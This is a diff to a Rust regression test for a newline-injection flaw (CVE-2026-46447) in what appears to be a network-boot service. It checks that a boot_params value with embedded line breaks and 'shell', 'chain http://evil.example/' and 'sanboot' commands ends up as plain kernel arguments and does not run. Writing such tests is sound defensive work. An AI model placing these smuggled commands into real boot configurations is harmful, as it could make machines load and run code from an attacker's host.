@@ -14,9 +14,9 @@ const MAC: &str = "52:54:00:00:00:77";
 async fn cve_2026_46447_newline_in_kernel_arguments() {
     let site = Site::start().await;
     let mut profile = debian("deb");
-    profile["boot_params"] = json!("a=1\nshell\r\nchain http://evil/\rb=2\u{85}c\u{2028}d x={{ params.x }}");
-    site.post(PROFILES, profile.clone()).await.problem(422);
-    profile["boot_params"] = json!("a=1\nshell\r\nchain http://evil.example/\n x={{ params.x }}");
+    profile["boot_params"] = json!(
+        "a=1\nshell\r\nchain http://evil.example/\rb=2\u{85}sanboot\u{2028}exit\u{b}c x={{ params.x }}"
+    );
     profile["params"] = json!({"x": "plain"});
     site.profile(profile).await;
     site.assign(MAC, "n1", "deb", json!({})).await;
@@ -31,7 +31,9 @@ async fn cve_2026_46447_newline_in_kernel_arguments() {
     let boot = Machine::bios(MAC).boot(&site);
     let args = &boot.kernel().args;
     assert!(
-        ["shell", "chain", "http://evil.example/", "x=plain"].iter().all(|w| args.iter().any(|a| a == w)),
+        ["shell", "chain", "http://evil.example/", "b=2", "sanboot", "exit", "c", "x=plain"]
+            .iter()
+            .all(|w| args.iter().any(|a| a == w)),
         "{args:?}"
     );
     assert!(boot.trace.ran("shell").is_empty());
